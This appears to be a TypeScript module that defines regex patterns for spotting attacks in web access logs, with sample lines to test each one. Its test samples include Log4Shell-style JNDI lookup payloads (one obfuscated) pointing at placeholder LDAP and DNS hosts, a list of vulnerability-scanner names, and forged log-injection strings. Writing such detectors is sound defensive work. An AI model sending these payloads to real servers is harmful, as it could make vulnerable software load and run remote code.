import type { Pattern } from '../matching/pattern.ts'
import { anyOf, type Probe, probes, quoted } from './probes.ts'
import { refusedRequests } from './refused-requests.ts'

/** How a kind of access log writes `address account "request" status size "referrer" "agent"`. */
export interface AccessLog {
  /** Source of a regex from the start to the first letter of the request; `account` is the source for who sent a password. */
  readonly start: (account?: string) => string
  /** Sample lines, each way in which servers of this kind write one. */
  readonly lines: readonly ((request: SampleRequest) => readonly [line: string, address: string])[]
}

export interface SampleRequest {
  readonly request: string
  readonly status?: number
  readonly agent?: string
  readonly referrer?: string
  readonly account?: string
}

const toAgent = String.raw`${quoted}" \d{3} \S+ "${quoted}" "`

/**
 * The patterns of an access log. The regexes keep to the request, the account and the agent, never the referrer: another
 * site decides what its visitors' browsers send us there.
 */
export function accessPatterns(log: AccessLog): readonly Pattern[] {
  const { lines } = log
  const line = (request: SampleRequest, index = 0) => lines[index % lines.length]!(request)
  /** A request behind which a whole line of another address is written, in the agent and in the referrer. */
  const framing = (request: string, status = 404): SampleRequest => {
    const escaped = line({ request, status })[0].replace(line({ request })[1], '192.0.2.1')
    return { request, status, agent: escaped, referrer: escaped }
  }
  const forged = (...requests: readonly SampleRequest[]) => requests.map((request, index) => line(request, index))
  const missed = (...requests: readonly SampleRequest[]) => requests.map((request, index) => line(request, index)[0])

  const ofProbe = ({ request, answered, match, miss, ...pattern }: Probe): Pattern => ({
    ...pattern,
    regex: new RegExp(`${log.start()}${request}${answered ? `${answered.rest}" ${answered.status} ` : ''}`, 'i'),
    samples: {
      match: match.map(([sample, status], index) => line({ request: sample, status }, index)),
      miss: missed(...miss.map(([sample, status]) => ({ request: sample, status }))),
      forged: match.map(([sample, status], index) => line(framing(sample, status), index)),
    },
  })

  return [
    ...[...probes, ...refusedRequests].map(ofProbe),
    {
      name: 'jndi-lookup',
      weight: 50,
      regex: new RegExp(
        `${log.start()}(?:${toAgent})?${quoted}${String.raw`(?:\$|%24)(?:\{|%7b)(?:jndi(?::|%3a)|(?:lower|upper|env|sys)(?::|%3a)|(?::|%3a){2}-|(?:\$|%24)(?:\{|%7b))`}`,
        'i',
      ),
      samples: {
        match: [
          line({ request: 'GET / HTTP/1.1', status: 200, agent: `\${jndi:ldap://198.51.100.1:1389/a}` }),
          line({ request: 'GET /?x=$%7Bjndi:ldap://198.51.100.1/a%7D HTTP/1.1', status: 200 }, 1),
          line({ request: 'GET / HTTP/1.1', status: 200, agent: `\${\${::-j}ndi:dns://198.51.100.1/a}` }),
        ],
        miss: missed(
          { request: 'GET /?price=$%7B5%7D HTTP/1.1', status: 200 },
          { request: 'GET / HTTP/1.1', status: 200, referrer: `https://other.example/?\${jndi:ldap://198.51.100.1/a}` },
        ),
        forged: forged({
          request: 'GET / HTTP/1.1',
          agent: `\${jndi:ldap://x}" 192.0.2.1 - - [21/Nov/2026:10:00:00 +0000] "GET /`,
        }),
      },
    },
    {
      name: 'scanner',
      weight: 50,
      regex: new RegExp(`${log.start()}${toAgent}[^"]*${anyOf(...scanners)}`, 'i'),
      samples: {
        match: [
          line({ request: 'GET / HTTP/1.1', agent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)' }),
          line({ request: 'GET /?id=1 HTTP/1.1', agent: 'sqlmap/1.8#stable (https://sqlmap.org)' }, 1),
          line({ request: 'GET / HTTP/1.1', agent: 'Mozilla/5.0 zgrab/0.x' }),
        ],
        miss: missed(
          { request: 'GET /nikto HTTP/1.1', status: 200 },
          { request: 'GET / HTTP/1.1', status: 200, referrer: 'https://www.example.net/sqlmap-1.8' },
        ),
        forged: forged({ request: 'GET / HTTP/1.1', agent: 'nikto" 192.0.2.1 - - "nikto' }),
      },
    },
    {
      // Basic authentication: the first request has no name (`-`) and is answered 401 as a rule; one with a name was wrong.
      // Calendars and the like go on with an old password for long, several requests at a time.
      name: 'wrong-password',
      weight: 5,
      regex: new RegExp(`${log.start('(?<user>[^-"][^"]*)')}${quoted}" 401 `),
      samples: {
        match: lines.map((_, index) => line({ request: 'GET /private/ HTTP/1.1', status: 401, account: 'admin' }, index)),
        miss: missed(
          { request: 'GET /private/ HTTP/1.1', status: 401 },
          { request: 'GET /private/ HTTP/1.1', status: 200, account: 'admin' },
        ),
        forged: forged({ request: 'GET / HTTP/1.1', status: 401, account: '192.0.2.1 - admin' }),
      },
    },
  ]
}

/** Programs that look for holes, by the name that they give themselves. */
const scanners = [
  'nikto',
  'sqlmap',
  'nmap scripting engine',
  'masscan',
  'zgrab',
  'nuclei',
  'acunetix',
  'nessus',
  'openvas',
  'wpscan',
  'dirbuster',
  'gobuster',
  'feroxbuster',
  'fuzz faster u fool',
  'whatweb',
  'arachni',
  String.raw`w3af\.`,
  'havij',
  'jorgee',
  'zmeu',
  'muieblackcat',
  'morfeus',
  'l9explore',
  'l9tcpid',
  'libredtail-http',
  'hello, ?world',
  String.raw`trackback\/1\.02`,
]
